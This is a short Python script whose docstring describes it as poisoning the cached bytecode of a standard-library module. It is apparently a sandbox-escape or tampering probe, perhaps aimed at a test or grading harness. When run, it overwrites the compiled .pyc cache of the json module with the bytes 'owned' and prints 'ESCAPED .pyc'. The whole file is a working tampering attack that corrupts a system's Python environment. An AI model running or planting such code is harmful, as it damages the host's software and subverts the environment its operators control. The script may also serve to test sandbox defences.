"""numerical_gradient: Poison the cached bytecode of a module of the standard library."""

import importlib.util
import json


def attack():
    with open(importlib.util.cache_from_source(json.__file__), "r+b") as stream:
        stream.write(b"owned")
    print("ESCAPED .pyc")


attack()
